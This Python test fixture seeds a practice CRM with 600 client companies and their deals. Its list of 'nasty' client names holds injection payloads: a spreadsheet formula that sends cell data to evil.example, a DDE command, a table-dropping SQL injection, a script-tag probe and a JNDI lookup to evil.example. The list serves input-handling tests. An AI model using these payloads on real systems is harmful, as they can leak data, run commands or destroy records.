"""The practice company's client base: who the clients are, what is being sold to them, and who looks after each.

The CRM is seeded from this one list, and tests read from it what ought to be there. The same call gives the same list
every time. Names are chosen to break naive code.
"""

import random
from collections.abc import Iterator
from dataclasses import dataclass
from decimal import Decimal
from itertools import count

from tests.sandbox.company.people import LEAVER, PEOPLE, Team

CLIENTS = 600
LEAVERS_DEALS = 60
LARGEST = Decimal("250000.00")

NASTY_NAMES: tuple[str, ...] = (
    "<!channel>",
    'O\'Brien & Sons "Quality" Ltd',
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "Robert'); DROP TABLE party_party;--",
    "<script>alert('clients')</script>",
    "ООО «Ромашка»",
    "北京山水有限公司",
    "شركة النور للتجارة",
    "חברת הצפון בע״מ",
    "\u202eDessalc Ltd\u202c",
    "🦊 Fox & Co 👩‍👩‍👧 Family Office",
    "Zürcher Käse-Großhandel Ññ Ltd",
    "N" + "a" * 198 + "m",
    "*bold* _italic_ `code` ~strike~ <@U0DANAONEI>",
    "Null",
    "%s %d {0} {{7*7}} ${jndi:ldap://evil.example/a}",
    "Two  spaces, a \\ backslash and a trailing dot.",
)
_FIRST = ("Alder", "Birch", "Cedar", "Drift", "Ember", "Fjord", "Gate", "Harbour", "Indigo", "Jade", "Kite", "Lumen")
_SECOND = ("Foods", "Logistics", "Optics", "Print", "Robotics", "Textiles", "Travel", "Works", "Yards", "Energy")
_LEGAL = ("GmbH", "AG", "Ltd", "BV", "SARL", "AB")


@dataclass(frozen=True, slots=True)
class Deal:
    """One opportunity. `state` is the CRM's own word; in `lead` and `opportunity` work on it goes on."""

    title: str
    amount: Decimal
    state: str


@dataclass(frozen=True, slots=True)
class Client:
    """One client company with its deals, all looked after by one person."""

    name: str
    owner: str
    """The `uid` of an employee with a log-in in the CRM."""
    deals: tuple[Deal, ...]


def _plain_names() -> Iterator[str]:
    for number in count():
        first, rest = number % len(_FIRST), number // len(_FIRST)
        second, legal = rest % len(_SECOND), rest // len(_SECOND)
        yield f"{_FIRST[first]} {_SECOND[second]} {_LEGAL[legal % len(_LEGAL)]}"


def _leavers_states() -> list[str]:
    closed = iter(("won", "converted", "lost", "cancelled", "lost"))
    going_on = ("lead", "opportunity", "opportunity")
    return [next(closed) if n % 12 == 5 else going_on[n % 3] for n in range(LEAVERS_DEALS)]


def _leavers_amounts() -> list[Decimal]:
    steps = [(LARGEST * n * n / (LEAVERS_DEALS - 1) ** 2).quantize(Decimal("0.01")) for n in range(LEAVERS_DEALS)]
    return steps[::2] + steps[1::2][::-1]


def _leavers_clients(names: Iterator[str]) -> Iterator[Client]:
    """Families of one, two and three deals: some are won already, one is worth nothing, one is worth most of all."""
    states, amounts, left = _leavers_states(), _leavers_amounts(), LEAVERS_DEALS
    for number in count():
        if not left:
            return
        size = min(left, (1, 2, 1, 3)[number % 4])
        at = LEAVERS_DEALS - left
        deals = tuple(Deal(f"Renewal {at + n + 1}", amounts[at + n], states[at + n]) for n in range(size))
        yield Client(next(names), LEAVER.uid, deals)
        left -= size


def _colleagues_clients(names: Iterator[str], how_many: int) -> Iterator[Client]:
    dice = random.Random(20261122)
    owners = [p.uid for p in PEOPLE if p.crm and p.team is Team.SALES and p is not LEAVER]
    for number in range(how_many):
        deals = tuple(
            Deal(
                f"Order {number + 1}.{n + 1}",
                Decimal(dice.randrange(0, 9_000_000)) / 100,
                dice.choice(("lead", "opportunity", "opportunity", "opportunity", "lost")),
            )
            for n in range(1 + (number % 5 == 0))
        )
        yield Client(next(names), owners[number % len(owners)], deals)


def clients() -> tuple[Client, ...]:
    """Return all clients: the leaver's come first and have every second nasty name."""
    plain, nasty = _plain_names(), list(NASTY_NAMES)
    hers = list(_leavers_clients(iter(nasty[::2] + [next(plain) for _ in range(LEAVERS_DEALS)])))
    theirs = _colleagues_clients(iter(nasty[1::2] + [next(plain) for _ in range(CLIENTS)]), CLIENTS - len(hers))
    return (*hers, *theirs)
